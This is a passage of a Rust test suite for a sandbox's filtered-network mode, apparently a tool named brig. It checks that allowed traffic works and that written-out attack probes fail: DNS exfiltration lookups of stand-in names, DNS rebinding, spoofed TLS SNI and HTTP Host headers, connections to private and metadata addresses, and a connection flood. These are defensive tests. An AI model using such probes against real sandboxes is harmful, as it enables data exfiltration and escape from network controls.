//! `--net filtered` with real traffic: local servers on the host (tests/net/servers.py:
//! HTTP, TLS with a test CA, TCP echo, UDP echo, a DNS stub), reached from jails through
//! `--allow-net` and `--add-host`, as root and rootless. The happy paths (curl, Python,
//! Node, pip), then every attack the policy must stop, each with the exact errno or exit
//! status the program sees, and a control showing the test would notice the attack
//! succeeding (the same probe with `--net host`).

use crate::common;

use common::limits::{Done, jail_with_verdict};
use common::net::{Servers, require_tun};
use common::*;
use serde_json::Value;
use std::net::{IpAddr, Ipv4Addr, TcpListener};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

both_modes!(
    curl_reaches_an_allowed_name_over_http_and_tls,
    python_node_and_pip_work_unchanged,
    git_clones_over_https,
    an_allowed_ip_rule_reaches_a_host_address,
    an_ipv6_rule_reaches_a_host_address,
    unlisted_names_get_nxdomain_and_no_query_leaves_the_host,
    an_allowed_name_resolving_to_loopback_is_refused,
    an_allowed_name_on_another_port_is_refused,
    direct_addresses_are_refused,
    a_tls_connection_naming_another_host_is_cut,
    an_http_request_naming_another_host_is_cut,
    udp_other_than_dns_is_dropped,
    a_flood_of_connections_meets_the_cap,
    the_byte_cap_cuts_a_download,
    a_program_ending_mid_transfer_leaves_nothing,
    the_jails_own_loopback_works,
    a_prepared_root_resolves_the_allowed_names,
    refusals_are_summed_up_in_one_line_on_stderr,
    a_loopback_rule_is_explained_and_a_pinned_name_reaches_the_host,
    a_second_request_naming_another_host_is_refused,
    requests_a_strict_server_would_refuse_or_read_two_ways_are_refused,
    client_hellos_are_judged_whole_and_need_one_allowed_name,
    a_name_resolving_to_the_hosts_own_or_a_reserved_address_is_refused,
    bytes_neither_http_nor_tls_on_port_443_need_a_tcp_rule,
    openssl_sni_variants_are_judged,
    a_deny_rule_refuses_what_it_names_and_lets_the_rest_out,
    a_deny_list_resolves_other_names_on_the_host_and_checks_their_addresses,
);

/// The name the tests give the servers (pinned to 127.0.0.1 by `--add-host`).
const WEB: &str = "web.test";

/// `--allow-net web.test:PORT --add-host web.test:127.0.0.1` for each port.
fn web_rules(ports: &[u16]) -> Vec<String> {
    let mut args = vec!["--add-host".to_string(), format!("{WEB}:127.0.0.1")];
    for port in ports {
        args.push("--allow-net".into());
        args.push(format!("{WEB}:{port}"));
    }
    args
}

fn strs(owned: &[String]) -> Vec<&str> {
    owned.iter().map(String::as_str).collect()
}

/// Runs PROGRAM in a jail with `args`, returning the run and its verdict.
fn filtered(mode: Mode, args: &[String], program: &[&str]) -> (Done, Value) {
    jail_with_verdict(mode, &strs(args), program)
}

/// The record's entries for destination `name` (or address) and `port`.
fn destinations<'a>(verdict: &'a Value, name: &str, port: u16) -> Vec<&'a Value> {
    let network = &verdict["network"];
    let connections = network["connections"]
        .as_array()
        .unwrap_or_else(|| panic!("no network record: {verdict}"));
    connections
        .iter()
        .filter(|entry| {
            entry["port"] == port && (entry["name"] == name || entry["address"] == name)
        })
        .collect()
}

fn allowed_bytes(verdict: &Value, name: &str, port: u16) -> (u64, u64) {
    let entries = destinations(verdict, name, port);
    let allowed: Vec<_> = entries.iter().filter(|e| e["allowed"] == true).collect();
    assert!(
        !allowed.is_empty(),
        "no allowed connection to {name}:{port}: {verdict}"
    );
    let sum = |key: &str| allowed.iter().map(|e| e[key].as_u64().unwrap()).sum();
    (sum("bytes_sent"), sum("bytes_received"))
}

/// The reason the record gives for refusing `name:port`.
fn refusal(verdict: &Value, name: &str, port: u16) -> String {
    let entries = destinations(verdict, name, port);
    let refused = entries
        .iter()
        .find(|entry| entry["allowed"] == false)
        .unwrap_or_else(|| panic!("no refused connection to {name}:{port}: {verdict}"));
    refused["reason"].as_str().unwrap_or_default().to_string()
}

fn python() -> String {
    interpreter("python3")
}

/// Python in the jail: connects to each `HOST PORT` line of its argv and prints
/// `HOST PORT ok` or `HOST PORT ERRNO-NAME`.
const CONNECT_PROBE: &str = r#"
import errno, socket, sys
for target in sys.argv[1:]:
    host, port = target.rsplit(" ", 1)
    try:
        s = socket.create_connection((host, int(port)), timeout=5)
        s.close()
        print(target, "ok")
    except OSError as e:
        print(target, errno.errorcode.get(e.errno, str(e)))
"#;

fn connect_probe(targets: &[String]) -> Vec<String> {
    let mut argv = vec![python(), "-c".into(), CONNECT_PROBE.into()];
    argv.extend(targets.iter().cloned());
    argv
}

/// An address of this host that is not loopback (the tests' "private address").
fn host_address() -> Ipv4Addr {
    let found = nix::ifaddrs::getifaddrs()
        .expect("getifaddrs")
        .filter_map(|interface| interface.address?.as_sockaddr_in().map(|a| a.ip()))
        .find(|ip| !ip.is_loopback());
    found.expect("this host has no IPv4 address besides loopback")
}

/// A TCP listener on every address of the host that counts the connections it accepts.
struct Listener {
    port: u16,
    accepted: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Listener {
    fn start() -> Listener {
        // Dual-stack: IPv4 connections arrive as IPv4-mapped ones.
        let listener = TcpListener::bind("[::]:0").expect("bind");
        let port = listener.local_addr().unwrap().port();
        let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = accepted.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(stream);
            }
        });
        Listener { port, accepted }
    }

    fn accepted(&self) -> usize {
        self.accepted.load(std::sync::atomic::Ordering::SeqCst)
    }
}

// ---------------------------------------------------------------------------------------
// Happy paths

fn curl_reaches_an_allowed_name_over_http_and_tls(mode: Mode) {
    if !require_tun(mode) || !require_program("curl", "apt install curl") {
        return;
    }
    let servers = Servers::start();
    let mut args = web_rules(&[servers.http, servers.tls]);
    args.extend([
        "--ro-bind".into(),
        format!("{}:/ca", servers.state_dir().display()),
    ]);
    let script = format!(
        "curl -sS http://{WEB}:{http}/hello && curl -sS --cacert /ca/ca.pem https://{WEB}:{tls}/host",
        http = servers.http,
        tls = servers.tls
    );
    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
    let out = assert_success(&done.output);
    assert_eq!(
        out,
        format!("hello\n{WEB}:{}", servers.tls),
        "{}",
        describe(&done.output)
    );
    assert_eq!(verdict["protections"]["net"], "filtered", "{verdict}");
    let (sent, received) = allowed_bytes(&verdict, WEB, servers.http);
    assert!(sent > 0 && received > 0, "{verdict}");
    let (sent, received) = allowed_bytes(&verdict, WEB, servers.tls);
    assert!(
        sent > 500 && received > 500,
        "TLS handshakes are bigger: {verdict}"
    );
    let network = &verdict["network"];
    assert_eq!(network["rules"].as_array().unwrap().len(), 2, "{verdict}");
    assert!(network["bytes_received"].as_u64().unwrap() > 0, "{verdict}");
    let log = servers.log().join("\n");
    assert!(
        log.contains(r#""sni": "web.test""#) || log.contains(r#""sni":"web.test""#),
        "{log}"
    );
}

fn python_node_and_pip_work_unchanged(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let mut args = web_rules(&[servers.http, servers.echo, servers.tls]);
    args.extend([
        "--ro-bind".into(),
        format!("{}:/ca", servers.state_dir().display()),
    ]);
    let python_code = format!(
        "import socket, urllib.request\n\
         s = socket.create_connection(('{WEB}', {echo}))\n\
         s.sendall(b'ping'); print(s.recv(4).decode())\n\
         print(urllib.request.urlopen('http://{WEB}:{http}/hello').read().decode(), end='')",
        echo = servers.echo,
        http = servers.http
    );
    let node_code = format!(
        "fetch('http://{WEB}:{}/hello').then(r => r.text()).then(t => process.stdout.write(t))",
        servers.http
    );
    let script = format!(
        "{py} -c \"$PY\" && node -e \"$NODE\" && {py} -m pip download --quiet --no-cache-dir \
         --disable-pip-version-check --cert /ca/ca.pem --index-url https://{WEB}:{tls}/simple/ \
         -d /tmp/out brigdemo && ls /tmp/out",
        py = python(),
        tls = servers.tls
    );
    let env_py = format!("PY={python_code}");
    let env_node = format!("NODE={node_code}");
    let mut all = args.clone();
    all.extend(["--env".into(), env_py, "--env".into(), env_node]);
    let (done, verdict) = filtered(mode, &all, &["sh", "-c", &script]);
    let out = assert_success(&done.output);
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        ["ping", "hello", "hello", "brigdemo-1.0-py3-none-any.whl"],
        "{}",
        describe(&done.output)
    );
    for port in [servers.http, servers.echo, servers.tls] {
        allowed_bytes(&verdict, WEB, port);
    }
}

fn git_clones_over_https(mode: Mode) {
    if !require_tun(mode)
        || !require(
            "git in /usr/bin (the jails see the host's /usr)",
            "apt install git",
            Path::new("/usr/bin/git").exists(),
        )
    {
        return;
    }
    let servers = Servers::start();
    servers.git_repository("demo", &[("hello.txt", "hello from git\n")]);
    let mut args = web_rules(&[servers.tls]);
    args.extend([
        "--ro-bind".into(),
        format!("{}:/ca", servers.state_dir().display()),
        "--env".into(),
        "GIT_SSL_CAINFO=/ca/ca.pem".into(),
    ]);
    let script = format!(
        "/usr/bin/git clone -q https://{WEB}:{}/git/demo.git /tmp/demo && cat /tmp/demo/hello.txt",
        servers.tls
    );
    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
    assert_eq!(assert_success(&done.output), "hello from git\n");
    allowed_bytes(&verdict, WEB, servers.tls);
}

fn an_allowed_ip_rule_reaches_a_host_address(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let listener = Listener::start();
    let host = IpAddr::V4(host_address());
    reach_by_ip_rule(mode, &listener, host, &format!("{host}:{}", listener.port));
}

/// The same over IPv6: the jail's side of the TUN device has an IPv6 address and route.
fn an_ipv6_rule_reaches_a_host_address(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let global = nix::ifaddrs::getifaddrs()
        .expect("getifaddrs")
        .filter_map(|interface| interface.address?.as_sockaddr_in6().map(|a| a.ip()))
        .find(|ip| !ip.is_loopback() && (ip.segments()[0] & 0xffc0) != 0xfe80);
    let how = "give the host an IPv6 address that is not link-local, e.g. `ip -6 addr add fd00::2/64 dev eth0`";
    let Some(host) = global else {
        require("a non-link-local IPv6 address on this host", how, false);
        return;
    };
    let listener = Listener::start();
    reach_by_ip_rule(
        mode,
        &listener,
        IpAddr::V6(host),
        &format!("[{host}]:{}", listener.port),
    );
}

fn reach_by_ip_rule(mode: Mode, listener: &Listener, host: IpAddr, rule: &str) {
    let target = format!("{host} {}", listener.port);
    let args = vec!["--allow-net".to_string(), rule.to_string()];
    let (done, verdict) = filtered(
        mode,
        &args,
        &strs_of(&connect_probe(std::slice::from_ref(&target))),
    );
    assert_eq!(assert_success(&done.output).trim(), format!("{target} ok"));
    assert!(listener.accepted() >= 1);
    allowed_bytes(&verdict, &host.to_string(), listener.port);
}

fn strs_of(owned: &[String]) -> Vec<&str> {
    strs(owned)
}

// ---------------------------------------------------------------------------------------
// Attacks

/// The address of a DNS stub the test controls, one per test and mode (tests run in
/// parallel, and the stub must listen on port 53: resolv.conf has no port).
fn stub_address(test: u8, mode: Mode) -> Ipv4Addr {
    Ipv4Addr::new(127, 53, test, if mode == Mode::Root { 1 } else { 2 })
}

/// Runs brig with `args` in a mount namespace of its own where /etc/resolv.conf names
/// `stub`, so that brig's host-side lookups go to the test's DNS stub.
fn with_host_resolver(mode: Mode, stub: Ipv4Addr, args: &[String]) -> (Output, Value) {
    let (command, verdict_path, _dir) = host_resolver_command(mode, stub, args);
    let output = output_of(command);
    let verdict = common::limits::read_verdict(&verdict_path, &output);
    (output, verdict)
}

/// The command [`with_host_resolver`] runs, where its verdict goes, and the directory that
/// holds both (removed when dropped).
fn host_resolver_command(
    mode: Mode,
    stub: Ipv4Addr,
    args: &[String],
) -> (Command, std::path::PathBuf, TempDir) {
    require_program("unshare", "apt install util-linux");
    let dir = TempDir::new("resolv").writable_by_all();
    let resolv_conf = dir.file("resolv.conf", &format!("nameserver {stub}\n"));
    let verdict_path = dir.path().join("verdict.json");
    let mut brig_args = vec![
        "run",
        "--quiet-limits",
        "--report",
        verdict_path.to_str().unwrap(),
    ];
    brig_args.extend(strs(args));
    let mut argv: Vec<std::ffi::OsString> = vec![
        "unshare".into(),
        "--mount".into(),
        "--propagation".into(),
        "private".into(),
        "sh".into(),
        "-c".into(),
        "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"".into(),
        resolv_conf.into(),
    ];
    argv.extend(argv_as(mode, brig_for(mode), &brig_args));
    (command_from(&argv), verdict_path, dir)
}

/// Names off the list get NXDOMAIN from brig itself: the host's resolver (a stub the test
/// controls) never hears of them, while an allowed name that is not pinned is resolved
/// through it (the control: the stub is the resolver brig uses).
fn unlisted_names_get_nxdomain_and_no_query_leaves_the_host(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let stub = stub_address(1, mode);
    let servers = Servers::start_with_dns(IpAddr::V4(stub), 53);
    let http = servers.http;
    let probe = format!(
        "import socket\n\
         for name in ['secret-data.exfil.test', 'exfil.test', 'allowed.test.exfil.test']:\n\
         \x20   try: print(name, socket.getaddrinfo(name, 80)[0][4])\n\
         \x20   except socket.gaierror as e: print(name, e.args[0] == socket.EAI_NONAME)\n\
         import urllib.request\n\
         print(urllib.request.urlopen('http://allowed.test:{http}/hello').read().decode(), end='')"
    );
    let args: Vec<String> = vec![
        "--allow-net".into(),
        format!("allowed.test:{http}"),
        // The stub answers 127.0.0.1, which only an IP rule lets brig connect to.
        "--allow-net".into(),
        format!("127.0.0.1:{http}"),
        "--".into(),
        python(),
        "-c".into(),
        probe,
    ];
    let (output, verdict) = with_host_resolver(mode, stub, &args);
    assert_eq!(
        assert_success(&output).lines().collect::<Vec<_>>(),
        [
            "secret-data.exfil.test True",
            "exfil.test True",
            "allowed.test.exfil.test True",
            "hello"
        ],
        "{}",
        describe(&output)
    );
    let asked = servers.dns_queries();
    assert!(
        asked.iter().any(|name| name == "allowed.test"),
        "the stub is the host's resolver: {asked:?}"
    );
    assert!(
        asked.iter().all(|name| !name.contains("exfil")),
        "a name off the list reached the host's resolver: {asked:?}"
    );
    let lookups = verdict["network"]["lookups"].as_array().unwrap();
    let secret = lookups
        .iter()
        .find(|lookup| lookup["name"] == "secret-data.exfil.test")
        .unwrap_or_else(|| panic!("the lookup is on the record: {verdict}"));
    assert!(secret["answer"].is_null(), "{verdict}");
}

/// DNS rebinding: an allowed name whose host-side answer is 127.0.0.1 is refused, because
/// brig checks the address it would connect to, not only the name.
fn an_allowed_name_resolving_to_loopback_is_refused(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let stub = stub_address(2, mode);
    let servers = Servers::start_with_dns(IpAddr::V4(stub), 53);
    let target = format!("rebind.test {}", servers.http);
    let mut args = vec![
        "--allow-net".to_string(),
        format!("rebind.test:{}", servers.http),
        "--".into(),
    ];
    args.extend(connect_probe(std::slice::from_ref(&target)));
    let (output, verdict) = with_host_resolver(mode, stub, &args);
    assert_eq!(
        stdout(&output).trim(),
        format!("{target} ECONNREFUSED"),
        "{}",
        describe(&output)
    );
    assert!(
        servers
            .dns_queries()
            .iter()
            .any(|name| name == "rebind.test")
    );
    let reason = refusal(&verdict, "rebind.test", servers.http);
    assert!(reason.contains("loopback"), "{reason}");
    let requests: Vec<String> = servers
        .log()
        .into_iter()
        .filter(|line| !line.contains("\"dns\""))
        .collect();
    assert!(requests.is_empty(), "the server was reached: {requests:?}");
}

/// A run that had refusals ends with one `brig: network:` line naming each refused
/// destination with its reason and the names that were not resolved; a run without any
/// prints none.
fn refusals_are_summed_up_in_one_line_on_stderr(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let args = web_rules(&[servers.http]);
    let probe = connect_probe(&[
        format!("{WEB} {}", servers.echo),
        "10.1.2.3 80".into(),
        format!("{WEB} {}", servers.http),
        "unlisted.test 80".into(),
    ]);
    let (done, _) = filtered(mode, &args, &strs_of(&probe));
    let out = assert_success(&done.output);
    assert!(
        out.contains(&format!("{WEB} {} ok\n", servers.http)),
        "{out}"
    );
    let errors = stderr(&done.output);
    let lines: Vec<&str> = errors
        .lines()
        .filter(|line| line.starts_with("brig: network:"))
        .collect::<Vec<_>>();
    assert_eq!(
        lines,
        [format!(
            "brig: network: 2 connections refused or cut: 10.1.2.3:80 (private (RFC 1918) address, not on the list), {WEB}:{echo} (port {echo} is not allowed for {WEB}); 1 name not on the list was not resolved: unlisted.test; to allow a destination add `--allow-net NAME:PORT` (the report's `network` has every attempt)",
            echo = servers.echo
        )],
        "{}",
        describe(&done.output)
    );
    // Only allowed connections: no line.
    let probe = connect_probe(&[format!("{WEB} {}", servers.http)]);
    let (done, _) = filtered(mode, &args, &strs_of(&probe));
    assert_success(&done.output);
    assert!(
        !stderr(&done.output).contains("brig: network"),
        "{}",
        describe(&done.output)
    );
}

/// `--allow-net 127.0.0.1:PORT` or `localhost:PORT` names the jail's own loopback: the
/// connection stays in the jail (ECONNREFUSED, the host's listener untouched), and `brig
/// check` and the run say so in one warning with the way to the host, which works.
fn a_loopback_rule_is_explained_and_a_pinned_name_reaches_the_host(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let listener = Listener::start();
    let port = listener.port;
    for host in ["127.0.0.1", "localhost"] {
        let rule = format!("{host}:{port}");
        let warning = format!(
            "--allow-net {rule}: in the jail this is the jail's own loopback (which needs no rule), not the host's, so the rule lets nothing through; to reach a server on the host's loopback, pin a name to it: `--add-host host.test:127.0.0.1 --allow-net host.test:{port}`"
        );
        let checked = run(mode, &["check", "--allow-net", &rule, "--", "true"]);
        assert!(
            assert_success(&checked).contains(&warning),
            "{}",
            describe(&checked)
        );
        let args = vec!["--allow-net".to_string(), rule.clone()];
        let target = format!("{host} {port}");
        let (done, _) = filtered(
            mode,
            &args,
            &strs_of(&connect_probe(std::slice::from_ref(&target))),
        );
        assert_eq!(
            assert_success(&done.output).trim(),
            format!("{target} ECONNREFUSED")
        );
        let errors = stderr(&done.output);
        let warned: Vec<&str> = errors
            .lines()
            .filter(|line| line.starts_with("brig: warning:"))
            .collect();
        assert_eq!(
            warned,
            [format!("brig: warning: {warning}")],
            "{}",
            describe(&done.output)
        );
    }
    assert_eq!(listener.accepted(), 0);
    // The way the warning gives reaches the host's loopback, without a warning.
    let args: Vec<String> = [
        "--add-host",
        "host.test:127.0.0.1",
        "--allow-net",
        &format!("host.test:{port}"),
    ]
    .map(String::from)
    .into();
    let target = format!("host.test {port}");
    let (done, _) = filtered(
        mode,
        &args,
        &strs_of(&connect_probe(std::slice::from_ref(&target))),
    );
    assert_eq!(assert_success(&done.output).trim(), format!("{target} ok"));
    assert!(
        !stderr(&done.output).contains("warning"),
        "{}",
        describe(&done.output)
    );
    assert_eq!(listener.accepted(), 1);
}

fn an_allowed_name_on_another_port_is_refused(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let audit = TempDir::new("audit").writable_by_all();
    let audit_log = audit.path().join("audit.log");
    let mut args = web_rules(&[servers.http]);
    args.extend(["--audit-log".into(), audit_log.display().to_string()]);
    let targets = [
        format!("{WEB} {}", servers.echo),
        format!("{WEB} {}", servers.http),
    ];
    let (done, verdict) = filtered(mode, &args, &strs_of(&connect_probe(&targets)));
    // The audit log carries the same record.
    let line = std::fs::read_to_string(&audit_log).expect("the audit log");
    let logged: Value = serde_json::from_str(line.trim()).expect("one JSON line");
    assert_eq!(logged["verdict"]["network"], verdict["network"], "{line}");
    assert_eq!(
        assert_success(&done.output).lines().collect::<Vec<_>>(),
        [
            format!("{} ECONNREFUSED", targets[0]),
            format!("{} ok", targets[1])
        ]
    );
    let reason = refusal(&verdict, WEB, servers.echo);
    assert!(
        reason.contains(&format!("port {}", servers.echo)),
        "{reason}"
    );
}

/// Every way of spelling "the host itself" or "the private network" ends in
/// ECONNREFUSED: 127.x and [::1] are the jail's own loopback, the rest are refused by
/// brig. With `--net host` the same probe reaches the host (the control).
fn direct_addresses_are_refused(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let listener = Listener::start();
    let host = host_address();
    let http = servers.http;
    let targets: Vec<String> = [
        format!("127.0.0.1 {http}"),
        format!("127.1 {http}"),
        format!("::1 {http}"),
        format!("::ffff:127.0.0.1 {http}"),
        format!("{host} {}", listener.port),
        "10.1.2.3 80".into(),
        "169.254.169.254 80".into(),
        "100.64.0.1 80".into(),
        "198.18.0.77 80".into(),
        "fd00::1 80".into(),
        "fe80::1%tun0 80".into(),
        "2001:db8::1 80".into(),
    ]
    .into();
    let args = web_rules(&[http]);
    let (done, verdict) = filtered(mode, &args, &strs_of(&connect_probe(&targets)));
    let expected: Vec<String> = targets
        .iter()
        .map(|t| format!("{t} ECONNREFUSED"))
        .collect();
    assert_eq!(
        stdout(&done.output).lines().collect::<Vec<_>>(),
        expected,
        "{}",
        describe(&done.output)
    );
    assert_eq!(listener.accepted(), 0);
    assert!(servers.log().is_empty(), "{:?}", servers.log());
    assert!(
        refusal(&verdict, "169.254.169.254", 80).contains("link-local"),
        "{verdict}"
    );
    assert!(
        refusal(&verdict, "10.1.2.3", 80).contains("private"),
        "{verdict}"
    );
    assert!(
        refusal(&verdict, &host.to_string(), listener.port).contains("not on the list"),
        "{verdict}"
    );

    // The control: without the filter the same probe reaches the host's servers.
    let control = vec!["--net".to_string(), "host".into()];
    let (done, _) = filtered(mode, &control, &strs_of(&connect_probe(&targets[..1])));
    assert_eq!(stdout(&done.output).trim(), format!("{} ok", targets[0]));
}

fn a_tls_connection_naming_another_host_is_cut(mode: Mode) {
    if !require_tun(mode) || !require_program("curl", "apt install curl") {
        return;
    }
    let servers = Servers::start();
    let tls = servers.tls;
    let mut args = web_rules(&[tls]);
    args.extend([
        "--ro-bind".into(),
        format!("{}:/ca", servers.state_dir().display()),
    ]);
    // Connect to web.test's address, but say `other.test` in the ClientHello (the
    // server's certificate is valid for both: only brig can stop it).
    let script = format!(
        "curl -sS --cacert /ca/ca.pem --connect-to other.test:{tls}:{WEB}:{tls} https://other.test:{tls}/host; echo \" exit=$?\""
    );
    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
    let out = stdout(&done.output);
    assert!(
        !out.contains("other.test:"),
        "the request went through: {out}"
    );
    assert!(
        out.contains(" exit=35") || out.contains(" exit=56"),
        "{}",
        describe(&done.output)
    );
    let reason = refusal(&verdict, WEB, tls);
    assert!(reason.contains("TLS SNI names other.test"), "{reason}");
    assert!(
        servers
            .log()
            .iter()
            .all(|line| !line.contains("other.test")),
        "{:?}",
        servers.log()
    );
}

fn an_http_request_naming_another_host_is_cut(mode: Mode) {
    if !require_tun(mode) || !require_program("curl", "apt install curl") {
        return;
    }
    let servers = Servers::start();
    let http = servers.http;
    let args = web_rules(&[http]);
    let script = format!(
        "curl -sS -H 'Host: other.test' http://{WEB}:{http}/host; echo \" exit=$?\"; curl -sS http://{WEB}:{http}/host"
    );
    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
    let out = stdout(&done.output);
    assert!(
        out.contains(" exit=52") || out.contains(" exit=56"),
        "{}",
        describe(&done.output)
    );
    assert!(
        out.ends_with(&format!("{WEB}:{http}")),
        "the control request: {out}"
    );
    let reason = refusal(&verdict, WEB, http);
    assert!(reason.contains("HTTP Host names other.test"), "{reason}");
    let log = servers.log();
    assert_eq!(
        log.len(),
        1,
        "only the control request reaches the server: {log:?}"
    );
}

fn udp_other_than_dns_is_dropped(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let udp = servers.udp;
    let probe = r#"
import socket, sys
for target in sys.argv[1:]:
    host, port = target.rsplit(" ", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.sendto(b"leak", (host, int(port)))
        print(target, s.recv(16).decode())
    except socket.timeout:
        print(target, "timeout")
    except OSError as e:
        print(target, e)
"#;
    let host = host_address();
    let targets = [
        format!("{WEB} {udp}"),
        "8.8.8.8 53".into(),
        format!("{host} {udp}"),
    ];
    let args = web_rules(&[udp]);
    let python = python();
    let mut program = vec![python.as_str(), "-c", probe];
    program.extend(targets.iter().map(String::as_str));
    let (done, verdict) = filtered(mode, &args, &program);
    let expected: Vec<String> = targets.iter().map(|t| format!("{t} timeout")).collect();
    assert_eq!(
        stdout(&done.output).lines().collect::<Vec<_>>(),
        expected,
        "{}",
        describe(&done.output)
    );
    assert!(servers.log().is_empty(), "{:?}", servers.log());
    let dropped = verdict["network"]["dropped"].as_array().unwrap();
    assert!(
        dropped
            .iter()
            .any(|d| d["protocol"] == "udp" && d["address"] == "8.8.8.8" && d["port"] == 53),
        "{verdict}"
    );

    // The control: with the host's network the same datagram is echoed.
    let control = vec!["--net".to_string(), "host".into()];
    let local = format!("127.0.0.1 {udp}");
    let (done, _) = filtered(mode, &control, &[python.as_str(), "-c", probe, &local]);
    assert_eq!(stdout(&done.output).trim(), format!("{local} leak"));
}

/// 40 connections held open at once against `--net-connections 8`: 8 get through, the
/// others are refused at once; once they close, brig serves a new one (it stayed
/// responsive), and the verdict says the cap was reached.
fn a_flood_of_connections_meets_the_cap(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let mut args = web_rules(&[servers.echo]);
    args.extend(["--net-connections".into(), "8".into()]);
    let flood = format!(
        r#"
import errno, socket
held, refused = [], 0
for _ in range(40):
    try:
        s = socket.create_connection(("{WEB}", {echo}), timeout=5)
        s.sendall(b"x"); s.recv(1)
        held.append(s)
    except OSError as e:
        assert e.errno == errno.ECONNREFUSED, e
        refused += 1
print(len(held), refused)
for s in held: s.close()
import time
for attempt in range(50):
    try:
        s = socket.create_connection(("{WEB}", {echo}), timeout=5); s.sendall(b"y"); print(s.recv(1).decode()); break
    except OSError:
        time.sleep(0.1)
"#,
        echo = servers.echo
    );
    let (done, verdict) = filtered(mode, &args, &[&python(), "-c", &flood]);
    assert_eq!(
        stdout(&done.output).lines().collect::<Vec<_>>(),
        ["8 32", "y"],
        "{}",
        describe(&done.output)
    );
    assert_eq!(verdict["status"], "net_limit", "{verdict}");
    assert_eq!(verdict["exit_code"], 0, "{verdict}");
    assert_eq!(
        verdict["network"]["limit_reached"], "net-connections",
        "{verdict}"
    );
    assert!(
        refusal(&verdict, WEB, servers.echo).contains("--net-connections"),
        "{verdict}"
    );
}

fn the_byte_cap_cuts_a_download(mode: Mode) {
    if !require_tun(mode) || !require_program("curl", "apt install curl") {
        return;
    }
    let servers = Servers::start();
    let mut args = web_rules(&[servers.http]);
    args.extend(["--net-bytes".into(), "1M".into()]);
    let script = format!(
        "curl -sS -o /dev/null http://{WEB}:{}/bytes/20000000; echo exit=$?",
        servers.http
    );
    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
    assert_eq!(
        stdout(&done.output).trim(),
        "exit=56",
        "{}",
        describe(&done.output)
    );
    assert_eq!(verdict["status"], "net_limit", "{verdict}");
    assert_eq!(
        verdict["network"]["limit_reached"], "net-bytes",
        "{verdict}"
    );
    let total = verdict["network"]["bytes_received"].as_u64().unwrap();
    assert!(
        (1 << 20..4 << 20).contains(&total),
        "cut soon after 1 MiB: {total}"
    );
}

/// The program dies in the middle of a download: brig ends, closes its side (the server
/// sees the connection end), and leaves no process, cgroup or socket behind.
fn a_program_ending_mid_transfer_leaves_nothing(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let servers = Servers::start();
    let args = web_rules(&[servers.http]);
    let reader = format!(
        "import os, urllib.request\n\
         r = urllib.request.urlopen('http://{WEB}:{}/bytes/4000000000')\n\
         r.read(1 << 20)\n\
         os.kill(os.getpid(), 9)",
        servers.http
    );
    let (done, verdict) = filtered(mode, &args, &[&python(), "-c", &reader]);
    assert_eq!(verdict["status"], "signaled", "{}", describe(&done.output));
    let (_, received) = allowed_bytes(&verdict, WEB, servers.http);
    assert!(received >= 1 << 20, "{verdict}");
    // brig has exited (`jail` checked its cgroups are gone); no connection to the
    // server is left open on the host.
    assert!(
        wait_until(Duration::from_secs(5), || established_to(servers.http) == 0),
        "a connection to the server is still open"
    );
}

/// TCP connections in state ESTABLISHED to `port` on this host.
fn established_to(port: u16) -> usize {
    let table = std::fs::read_to_string("/proc/net/tcp").unwrap_or_default();
    let wanted = format!(":{port:04X}");
    table
        .lines()
        .skip(1)
        .filter(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            fields.len() > 3
                && fields[3] == "01"
                && (fields[1].ends_with(&wanted) || fields[2].ends_with(&wanted))
        })
        .count()
}

/// A program may run its own server on 127.0.0.1 and test it, in every network mode.
fn the_jails_own_loopback_works(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let server_and_client = r#"
import socket, threading
server = socket.create_server(("127.0.0.1", 0))
port = server.getsockname()[1]
threading.Thread(target=lambda: server.accept()[0].sendall(b"local"), daemon=True).start()
print(socket.create_connection(("127.0.0.1", port)).recv(5).decode())
"#;
    for net in [&["--net", "none"][..], &["--allow-net", "web.test:80"][..]] {
        let args: Vec<String> = net.iter().map(|arg| arg.to_string()).collect();
        let (done, _) = filtered(mode, &args, &[&python(), "-c", server_and_client]);
        assert_eq!(assert_success(&done.output).trim(), "local", "{net:?}");
    }
}

/// `--rootfs` with `--allow-net`: the prepared root's /etc gets the jail's resolv.conf and
/// hosts over its own (here a busybox root from `brig rootfs build shell` whose resolv.conf
/// is a dangling symlink, as on hosts with systemd-resolved), so the allowed name resolves
/// and is fetched, an unlisted one does not resolve, and the root's other files stay.
fn a_prepared_root_resolves_the_allowed_names(mode: Mode) {
    if !require_tun(mode) {
        return;
    }
    let dir = TempDir::new("net-rootfs");
    let root = dir.path().join("root");
    let built = output_of(command_from(&[
        brig().into(),
        "rootfs".into(),
        "build".into(),
        "shell".into(),
        root.clone().into(),
    ]));
    assert_success(&built);
    std::os::unix::fs::symlink(
        "../run/systemd/resolve/stub-resolv.conf",
        root.join("etc/resolv.conf"),
    )
    .unwrap();
    let servers = Servers::start();
    let mut args = web_rules(&[servers.http]);
